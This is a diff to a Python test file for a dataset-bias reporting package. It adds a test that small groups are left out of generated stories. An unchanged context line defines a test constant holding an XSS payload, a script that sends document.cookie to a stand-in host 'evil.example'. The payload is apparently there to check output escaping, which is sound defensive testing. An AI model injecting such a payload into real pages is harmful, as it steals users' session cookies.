@@ -16,6 +16,8 @@ from fiftyone_daebias.errors import InputError
 from fiftyone_daebias.reporting.cohort_facts import _field, cohort_facts, few
 from fiftyone_daebias.reporting.facts import without_paths
 from fiftyone_daebias.reporting.markup import Markup, el
+from fiftyone_daebias.reporting.page import _told_groups
+from fiftyone_daebias.stories.facts import Group
 
 EVIL = '"><script>fetch("http://evil.example/"+document.cookie)</script><img src=x onerror=alert(1)>'
 
@@ -172,6 +174,12 @@ def test_small_groups_are_not_told(dataset_name):
     assert "rare disease" not in json.dumps(facts.to_dict())
     assert {f.name: f for f in cohort_facts(dataset, k=4).fields}["dx"].values[1] == ("rare disease", 4)
     assert (few(4, 5), few(5, 5), few(0, 5)) == (None, 5, 0)
+
+
+def test_a_story_tells_no_small_group_and_none_that_is_a_difference():
+    groups = (Group("a", 40, 40), Group("b", 20, 20), Group("c", 3, 3))
+    assert _told_groups(groups, 5) == groups[:1] and _told_groups(groups, 3) == groups
+    assert _told_groups((*groups, Group("d", 2, 2)), 5) == groups[:2]
 
 
 def test_missing_values_are_counted(dataset_name):
